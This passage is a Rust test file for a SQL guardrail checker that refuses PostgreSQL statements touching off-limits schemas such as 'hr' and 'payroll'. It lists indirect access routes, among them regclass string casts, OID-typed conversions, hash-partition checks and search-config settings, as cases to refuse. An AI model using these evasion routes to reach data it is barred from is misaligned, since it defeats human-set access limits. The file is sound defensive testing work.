        "select 'hr.dict'::pg_catalog.regdictionary",
        // Any object named in a string cast to its identifier type.
        "select 'hr.salaries'::regclass",
        "select pg_relation_size('hr.salaries'::regclass)",
        "select 'hr.f(int)'::regprocedure",
        "select 'hr.f'::pg_catalog.regproc",
        "select 'hr.d'::regtype",
        "select satisfies_hash_partition('hr.bonus'::regclass, 1, 0, 43)",
        "set default_text_search_config = 'hr.cfg'",
        "set local default_text_search_config to 'hr.cfg'",
        "select set_config('default_text_search_config', 'hr.cfg', false)",
        "create index on t using gin (to_tsvector('hr.cfg', name))",
    ] {
        assert_eq!(rule(sql), Some("off_limits"), "{sql}");
    }
    for sql in [
        "select hr.name from people hr",
        "select p.hr from people p",
        "select hr from people",
        "select * from people p join staff s using (hr, id)",
        "select * from (values (1, 2)) as t(hr, x)",
        "copy people (hr, n) to stdout",
        "create index on people (hr, n)",
        "create view v (hr, n) as select 1, 2",
        "with w (hr, n) as (select 1, 2) select * from w",
        "alter table people add primary key (hr, n)",
        "select pg_catalog.upper('a')",
        "select 1::pg_catalog.int4",
        "create table public.t (a int, hr text)",
        // Lists of values or columns, not names (an attack review's).
        "create type public.dept as enum ('hr', 'sales')",
        "grant select (hr, x) on public.t to sales_read",
        "copy public.t (id, x) to stdout (format csv, force_quote (hr, x))",
        "copy public.t from stdin (format csv, force_not_null (hr, x), force_null (hr, x))",
        "with recursive c (hr, x) as (select 1, 1 union all select hr + 1, x from c where hr < 3) search depth first by hr, x set ord select hr from c",
        "with recursive c (hr, x) as (select 1, 1 union all select hr + 1, x from c where hr < 3) cycle hr, x set cyc using pth select hr from c",
        "select brin_summarize_new_values('public.pay_brin')",
        "select to_tsvector('english', 'x')",
        "select to_tsvector('pg_catalog.english', 'hr.x')",
        "select to_tsvector('hr.x')",
        "select 'public.items'::regclass",
        "select 'hr.x'::text",
        "select oid from pg_class where relnamespace = 'hr'::regnamespace",
        "set default_text_search_config = 'pg_catalog.english'",
    ] {
        assert_eq!(rule(sql), None, "{sql}");
    }
}

/// A conversion to a type given by OID runs the type's input and a domain's checks, which
/// may call the database's functions, and no name of the type is there to see: as opaque as
/// a call of a database function under any rule, an ordinary read without one.
#[test]
fn a_conversion_to_a_type_given_by_oid_is_opaque() {
    let rules = Guardrails {
        deny_drop: true,
        ..Guardrails::default()
    };
    for sql in [
        "select domain_in('5', 'hr.d2'::regtype, -1)",
        "select domain_in('5', 16487, -1) is null",
        "select record_in('(5,x)', to_regtype('comp'), -1)",
        "select array_in('{5}', 'posint'::regtype, -1)",
        "select range_in('[1,2)', 'r'::regtype, -1)",
        "select multirange_in('{[1,2)}', 'mr'::regtype, -1)",
        "select pg_catalog.domain_recv(null, 16487, -1)",
        "select * from t where record_in(t.v, 1, -1) is null",
    ] {
        let analysis = analyze(sql);
        let refusal = check_rules(&rules, &analysis.facts).expect_err(sql);
        assert_eq!(refusal.rule, "opaque_statement", "{sql}");
        assert!(
            refusal.message.contains("type given by OID"),
            "{sql}: {}",
            refusal.message
        );
        assert!(
            check_analysis(AccessLevel::Read, &Guardrails::default(), &analysis).is_ok(),
            "{sql}"
        );
    }
    // A type's input by name: the type is seen (and followed in the catalog).
    let named = analyze("select int4in('5')");
    assert!(check_rules(&rules, &named.facts).is_ok());
}

/// A database's own implicit cast between built-in types may run in any expression, where
/// no type is written: with rules, no statement is allowed; without, it is no concern of
/// the rules'.
#[test]
fn an_implicit_cast_of_the_databases_own_refuses_every_statement_under_rules() {
    let rules = Guardrails {
        deny_drop: true,
        ..Guardrails::default()
    };
    let database: std::collections::HashSet<String> = [IMPLICIT_CAST.to_owned()].into();
    for sql in ["select host(7)", "select 1", "begin"] {
        let facts = analyze(sql).facts;
        let refusal = check_database_functions(&rules, &facts, &database).expect_err(sql);
        assert_eq!(refusal.rule, "opaque_statement");
        assert!(
            refusal.message.contains("a cast of its own"),
            "{}",
            refusal.message
        );
        assert!(check_database_functions(&Guardrails::default(), &facts, &database).is_ok());
        assert!(
            check_database_functions(&rules, &facts, &std::collections::HashSet::new()).is_ok()
        );
    }
}

/// `satisfies_hash_partition` runs the hash functions of the key of the table it names:
/// by OID it is as opaque as a table read by a name in a string; by name, it names it.
#[test]
fn satisfies_hash_partition_names_its_table() {
    let rules = Guardrails {
        off_limits: vec!["payroll".into()],
        ..Guardrails::default()
    };
    let rule = |sql: &str| rule_refusing(&rules, sql);
    assert_eq!(
        rule("select satisfies_hash_partition(16503, 2, 0, 6)"),
        Some("off_limits")
    );
    assert_eq!(
        rule("select satisfies_hash_partition('payroll', 2, 0, 6)"),
        Some("off_limits")
    );
    let named = analyze("select satisfies_hash_partition('parts', 2, 0, 6)");
    assert!(named.facts.relations.iter().any(|r| r == "parts"));
    let deny_only = Guardrails {
        deny_drop: true,
        ..Guardrails::default()
    };
    let by_oid = analyze("select satisfies_hash_partition(16503, 2, 0, 6)");
    let refusal = check_rules(&deny_only, &by_oid.facts).expect_err("by OID");
    assert_eq!(refusal.rule, "opaque_statement");
}

/// The rule that refuses `sql` on a database with `rules`, if any.
fn rule_refusing(rules: &Guardrails, sql: &str) -> Option<&'static str> {
    check_rules(rules, &analyze(sql).facts)
        .err()
        .map(|r| r.rule)
}
